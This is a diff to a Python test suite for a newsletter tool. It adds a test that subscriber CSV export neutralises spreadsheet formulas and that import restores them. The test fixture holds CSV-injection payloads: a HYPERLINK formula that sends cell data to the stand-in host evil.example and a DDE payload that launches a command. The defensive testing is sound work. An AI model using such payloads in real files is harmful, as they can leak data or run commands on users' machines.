@@ -12,6 +12,7 @@ from pathlib import Path
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from newsletter.project import open_project
 from newsletter.subscribers.exporter import export_csv
 from newsletter.subscribers.importer import import_csv
 
@@ -209,6 +210,39 @@ def test_export_to_a_file_has_a_bom_and_round_trips(project, tmp_path, cli):
     assert "│ unchanged    │   12 │" in again.stdout
 
 
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "organisation": "+cmd|' /C calc'!A0",
+    "source": "-2+3",  # (a language is only ever a code: cy, en or empty)
+    "note": "@SUM(1+1)",
+    "quoted": "'=already quoted",
+}
+
+
+def test_export_neutralises_formulas_and_import_restores_them_exactly(project, tmp_path, cli):
+    with open_project(project) as (_config, store):
+        store.add_subscriber(
+            "-dash@example.org",
+            name=FORMULAS["name"],
+            organisation=FORMULAS["organisation"],
+            source=FORMULAS["source"],
+        )
+        store.db.execute(
+            "UPDATE subscribers SET attributes = ?",
+            [json.dumps({"note": FORMULAS["note"], "quoted": FORMULAS["quoted"]})],
+        )  # fmt: skip
+    target = tmp_path / "out.csv"
+    assert cli("subscribers", "export", str(target)).exit_code == 0
+    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
+    assert rows[0]["email"] == "'-dash@example.org"
+    for column, value in FORMULAS.items():
+        assert rows[0][column] == "'" + value  # a spreadsheet shows it as text, never runs it
+    other = tmp_path / "other"
+    assert cli("init", str(other)).exit_code == 0
+    assert cli("subscribers", "import", str(target), project_dir=other).exit_code == 0
+    assert comparable(other) == comparable(project)
+
+
 def test_export_into_a_missing_folder_is_one_line(project, tmp_path, cli):
     cli("subscribers", "add", "ann@example.org")
     line = one_error_line(cli("subscribers", "export", str(tmp_path / "no" / "such.csv")))
@@ -225,7 +259,11 @@ def comparable(project: Path) -> list[tuple]:
     )
 
 
-text = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=15)
+plain_text = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=15)
+# Often led by what a spreadsheet reads as a formula, or by apostrophes before it.
+text = st.tuples(st.sampled_from(["", "", "=", "+", "-", "@", "'", "'=", "''@"]), plain_text).map(
+    "".join
+)
 attribute_names = st.text(alphabet=st.sampled_from("abcXYZ019 _-()âŷŵ."), min_size=1, max_size=10)
 
 
